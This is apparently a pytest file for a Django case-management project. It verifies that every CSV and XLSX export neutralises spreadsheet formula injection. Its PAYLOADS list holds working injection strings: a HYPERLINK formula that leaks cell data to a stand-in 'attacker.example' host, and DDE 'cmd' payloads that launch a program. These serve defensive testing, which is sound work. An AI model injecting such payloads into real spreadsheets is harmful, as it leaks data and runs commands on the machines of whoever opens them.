"""No spreadsheet the project writes carries a live formula (CSV injection), whichever door it leaves by."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from masip.core.spreadsheets import FORMULA_TRIGGERS, csv_text, safe_cell

SRC = Path(__file__).resolve().parents[2]  # src/masip
HELPER = SRC / "core" / "spreadsheets.py"
WRITERS = re.compile(r"csv\.writer|DictWriter|openpyxl|xlsxwriter|\.to_csv\(|\.to_excel\(|ExcelWriter", re.IGNORECASE)
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_would_start_a_formula_is_made_inert(payload):
    assert safe_cell(payload) == "'" + payload
    assert not safe_cell(payload).startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("value", ["ICO", "Complaint 123", "", "a=b", "LON-C00001", 42, -3, 1.5, None])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_headers_are_made_safe_too():
    text = csv_text([{"=x": "=1"}], ["=x"])
    assert list(csv.reader(io.StringIO(text))) == [["'=x"], ["'=1"]]


def test_every_spreadsheet_writer_goes_through_the_one_helper():
    offenders = []
    for path in SRC.rglob("*.py"):
        if path == HELPER or "tests" in path.parts:
            continue
        for number, line in enumerate(path.read_text().splitlines(), start=1):
            if WRITERS.search(line):
                offenders.append(f"{path.relative_to(SRC)}:{number}: {line.strip()}")
    assert not offenders, "Write spreadsheets through masip.core.spreadsheets:\n" + "\n".join(offenders)


# Every module that writes a spreadsheet, and the test below that exercises its door.
EXPORT_DOORS = {
    "audit/services.py": "test_the_audit_export_carries_no_formula",
    "evaluation/extract.py": "test_the_evaluation_extract_carries_no_formula",
    "evaluation/views.py": "test_the_evaluation_extract_carries_no_formula",
    "reporting/exports.py": "test_the_reporting_exports_carry_no_formula",
}


def test_every_export_door_is_exercised():
    users = {
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path != HELPER and "tests" not in path.parts and "masip.core.spreadsheets" in path.read_text()
    }
    assert users == set(EXPORT_DOORS), "Add a door test below for each module that writes a spreadsheet"
    assert all(name in globals() for name in EXPORT_DOORS.values())


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("kind", ["case", "person"])
def test_the_audit_export_carries_no_formula(kind, as_user, london, make_referral, accept, give_reason):
    """What a user types (a reason for opening a case, an export's recipient and reason) reaches the audit CSV."""
    from masip.cases.models import Case

    accept(make_referral(london))
    case = Case.objects.get()
    pk = case.pk if kind == "case" else case.suspect_id
    health = as_user("london-health")
    health.post(reverse("cases:detail", args=[case.pk]), {"reason": "other", "detail": PAYLOADS[0]})
    manager = as_user("london-manager")
    url = reverse("audit:export", args=[kind, pk])
    for payload in PAYLOADS:
        response = manager.post(url, {"recipient": payload, "reason": payload, "format": "csv"})
        assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    cells = _cells(response.content.decode())
    live = [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert not live, f"Live formulas in the {kind} audit export: {live}"
    for payload in PAYLOADS:
        assert "'" + payload.strip() in cells  # kept, as text (forms strip surrounding whitespace)


def test_the_evaluation_extract_carries_no_formula(as_user, london, make_referral, staff):
    """A referral's typed area reaches the extract (as a quasi-identifier); no cell may start a formula."""
    import zipfile

    from masip.evaluation import services
    from masip.referrals.models import Referral

    for number in range(3):
        make_referral(london, suspect=f"Suspect Number{number}", victim=f"Victim Number{number}")
    Referral.objects.update(area=PAYLOADS[0])
    evaluator = as_user("evaluator")
    evaluation = services.evaluation_create(name="Formula check", acting_user=staff["evaluator"])
    services.extract_create(evaluation=evaluation, purpose="check", file_format="csv", coarsen=True,
                            acting_user=staff["evaluator"])
    extract = evaluation.extracts.get()
    response = evaluator.get(reverse("evaluation:extract_download", args=[extract.pk]))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    cells = [c for name in archive.namelist() if name.endswith(".csv") for c in _cells(archive.read(name).decode())]
    dictionary = evaluator.get(reverse("evaluation:dictionary") + "?format=csv").content.decode()
    cells += _cells(dictionary)
    assert len(cells) > 100
    live = [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert not live, f"Live formulas in the evaluation extract: {live}"


def test_the_reporting_exports_carry_no_formula(as_user, london):
    """What a manager types (how a return figure is collected) reaches the return's CSV and XLSX."""
    from openpyxl import load_workbook

    from masip.reporting.periods import Quarter

    manager = as_user("london-manager")
    notes = {f"note_{code}": PAYLOADS[i] for i, code in enumerate(
        ["referrals", "victims_supported", "direct_interventions", "people_trained"])}
    collected = {f"collected_{code}": "on" for code in
                 ["referrals", "victims_supported", "direct_interventions", "people_trained"]}
    assert manager.post(reverse("reporting:collection", args=["london"]), {"version": "0", **notes, **collected}
                        ).status_code == 302
    quarter = Quarter.containing(timezone_today()).previous().code
    response = manager.get(reverse("reporting:return_export", args=["london", quarter, "csv"]))
    cells = _cells(response.content.decode("utf-8-sig"))
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert "'" + PAYLOADS[0] in cells
    workbook = load_workbook(io.BytesIO(
        manager.get(reverse("reporting:return_export", args=["london", quarter, "xlsx"])).content))
    values = [c.value for row in workbook.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [v for v in values if v.startswith(FORMULA_TRIGGERS)]
    assert "'" + PAYLOADS[0] in values


def timezone_today():
    from django.utils import timezone

    return timezone.localdate()
